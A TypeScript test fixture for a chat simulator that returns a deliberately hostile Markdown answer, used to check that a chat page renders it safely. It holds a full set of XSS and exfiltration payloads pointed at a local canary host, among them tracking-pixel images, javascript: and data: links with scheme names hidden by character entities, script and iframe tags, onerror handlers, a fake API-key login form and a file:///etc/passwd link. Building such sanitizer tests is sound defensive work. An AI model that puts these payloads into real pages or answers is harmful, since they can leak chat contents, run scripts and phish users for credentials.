/** A hostile answer: every way in which a text can try to fetch, run or deceive. Each piece says what it tries. */
import { plain, type Script, say } from '@/lib/server/simulator/script'

/** The port of the answer's addresses unless the question names one: nothing listens there. */
export const HOSTILE_HOST = '127.0.0.1:9'

/** The last words of the answer; a page that shows them has rendered all of it. */
export const HOSTILE_END = 'This is the end of the hostile answer.'

/** The host that a question means; undefined if the question is not for this script. */
function hostOf(question: string): string | undefined {
  const found = /^(?:be|act) hostile(?: to port (\d{1,5}))?$/.exec(plain(question))
  if (!found) return undefined
  if (found[1] === undefined) return HOSTILE_HOST
  const port = Number(found[1])
  return port >= 1 && port <= 65_535 ? `127.0.0.1:${port}` : undefined
}

/** `be hostile`, or `be hostile to port N`, so that a test can listen there for requests. */
export const hostile: Script = {
  name: 'hostile',
  title: 'A hostile answer',
  question: 'Be hostile',
  matches: (question) => hostOf(question) !== undefined,
  steps: ({ question }) => [say(textFor(hostOf(question) ?? HOSTILE_HOST))],
}

/** Each address has its own canary, so that a request shows which piece it came from. */
function textFor(host: string): string {
  const at = (canary: string) => `http://${host}/?canary=${canary}`
  const run = (canary: string) => `fetch('${at(canary)}')`
  return `# A hostile answer

Everything below is an attack. A page that shows it well shows these words and does nothing else: it fetches nothing, runs nothing, and hides no address. The canary in each address tells which piece got through.

## Images that report the reader

An image is fetched without a click, so its address could carry away what stands in the chat. This one is written in the line: ![A pixel](${at('image-inline')})

This one keeps its address elsewhere, ![by reference][pixel], and this one is its own reference: ![image-shortcut]

This one has no scheme and takes the page's own: ![No scheme](//${host}/?canary=image-without-scheme)

This one writes backslashes, which browsers read as slashes: ![Backslashes](/\\\\${host}/?canary=image-backslash)

This one puts a trusted name before the host, where it is only a user name: ![Trusted?](http://platform.claude.com@${host}/?canary=image-user)

This one is the label of a link: [![In a link](${at('image-in-link')})](${at('image-link')})

| These stand in a table |
| :--- |
| ![In a cell](${at('image-in-cell')}) |

This one waits in a footnote.[^note]

## Images in HTML

The same without Markdown: <img src="${at('html-image')}"> and <img srcset="${at('html-srcset')} 2x"> in the line, and then as blocks.

<picture><source srcset="${at('html-source')}"><img alt="A picture" src="${at('html-picture')}"></picture>

<video poster="${at('html-poster')}" src="${at('html-video')}" autoplay></video>

<svg><image href="${at('html-vector')}" /><use href="${at('html-use')}" /></svg>

<object data="${at('html-object')}"></object><embed src="${at('html-embed')}"><input type="image" src="${at('html-input')}">

## Links that run code

These would run on a click. Written plainly: [javascript](javascript:${run('link-javascript')}), [in odd letters](JaVaScRiPt:${run('link-letters')}), [vbscript](vbscript:msgbox(1)), [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), [data with markup](data:text/html,<script>${run('link-data')}</script>).

The name of the scheme smuggled past a filter, by entities: [one letter](java&#x73;cript:${run('link-entity')}), [the colon](javascript&colon;${run('link-colon')}), [a tab](java&Tab;script:${run('link-tab')}), [a line end](java&NewLine;script:${run('link-newline')}), [a control character before it](&#x01;javascript:${run('link-control')}).

As an autolink, <javascript:${run('link-autolink')}>, and [by reference][code]. Two more schemes that a page has no business with: [a file](file:///etc/passwd) and [a blob](blob:${at('link-blob')}).

## Links that lie

The words name one address and the link goes to another: [https://platform.claude.com/](${at('link-words')}). Or the trusted name is a user name again: [platform.claude.com](http://platform.claude.com@${host}/?canary=link-user). Or the link has no scheme: [a page of this site](//${host}/?canary=link-without-scheme).

## HTML that runs, restyles or leads away

A script, a frame with a page of its own in it, a frame with a foreign page, and a sheet of styles:

<script>${run('html-script')}</script>

<iframe srcdoc="<script>${run('html-srcdoc')}</script>"></iframe>

<iframe src="${at('html-frame')}"></iframe>

<style>@import url("${at('html-import')}"); body { display: none; background: url("${at('html-style')}") }</style>

Handlers of events, on an image that fails and on one that loads: <img src=x onerror="${run('html-error')}"> <svg onload="${run('html-load')}"></svg>

A cover over the whole page, and a form that asks for a key:

<div style="position: fixed; inset: 0; background: url('${at('html-cover')}')"></div>

<form action="${at('html-form')}"><input name="key" placeholder="Your API key"><button>Log in again</button></form>

A jump to another page, another base for all links, and two hints to fetch something early:

<meta http-equiv="refresh" content="0; url=${at('html-refresh')}">

<base href="${at('html-base')}">

<link rel="stylesheet" href="${at('html-sheet')}"><link rel="prefetch" href="${at('html-prefetch')}">

## Formulas that are links and images

A link with code: $$\\href{javascript:${run('math-href')}}{x}$$

A link to the host: $$\\url{${at('math-url')}}$$

An image: $$\\includegraphics[height=1em]{${at('math-image')}}$$

Styles and attributes: $$\\htmlStyle{background: url(${at('math-style')})}{x} \\htmlData{onclick=${run('math-data')}}{y}$$

## Code that is not only code

A fence whose language is markup:

\`\`\`"><img/src=x/onerror=${run('code-language')}>
nothing
\`\`\`

${HOSTILE_END}

[pixel]: ${at('image-reference')} "A title"
[image-shortcut]: ${at('image-shortcut')}
[code]: javascript:${run('link-reference')}

[^note]: ![In a footnote](${at('image-in-footnote')}) and [code](javascript:${run('link-in-footnote')})
`
}
